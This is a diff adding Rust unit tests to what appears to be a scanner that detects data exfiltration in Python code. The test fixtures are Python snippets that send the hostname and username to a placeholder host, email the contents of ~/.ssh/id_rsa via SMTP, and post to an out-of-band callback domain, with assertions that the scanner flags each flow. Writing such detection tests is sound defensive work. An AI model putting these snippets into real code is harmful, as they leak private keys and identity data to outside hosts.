@@ -617,3 +617,22 @@ fn code_out_of_pictures_and_replaced_clients_are_followed() {
     let telling = patch.replace("'https://t.invalid/x'", "CONFIG.endpoint");
     assert!(!rules(Language::Python, &telling).contains(&"flow-patched-client-tells"));
 }
+
+#[test]
+fn forms_and_messages_hold_what_is_put_into_them() {
+    let code = "import aiohttp, socket, getpass\nasync def f():\n    d = aiohttp.FormData()\n    d.add_field('h', socket.gethostname())\n    \
+                d.add_field('u', getpass.getuser())\n    await aiohttp.ClientSession().post('https://h.invalid/u', data=d)";
+    assert!(rules(Language::Python, code).contains(&"flow-identity-sent"));
+    let code = "import smtplib\nfrom email.mime.multipart import MIMEMultipart as M\nfrom email.mime.text import MIMEText\nm = M()\n\
+                m.attach(MIMEText(open('/home/u/.ssh/id_rsa').read()))\nsmtplib.SMTP('h.invalid').sendmail('a', 'b', m.as_string())";
+    assert!(rules(Language::Python, code).contains(&"flow-credentials-sent"));
+}
+
+#[test]
+fn whoever_calls_a_collector_of_one_tester_is_seen() {
+    let code = "import requests\ndef f():\n    requests.post('https://a1b2c3d4e5f6a7b8c9d0.oast.invalid', json={'m': 'imported'})";
+    let outcome = python(code);
+    assert!(flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-calls-home" && f.certain));
+    let scanner = code.replace("'https://a1b2c3d4e5f6a7b8c9d0.oast.invalid'", "'https://' + NAME + '.oast.invalid'");
+    assert!(flows::judge(&python(&scanner), false).iter().all(|f| !f.certain));
+}
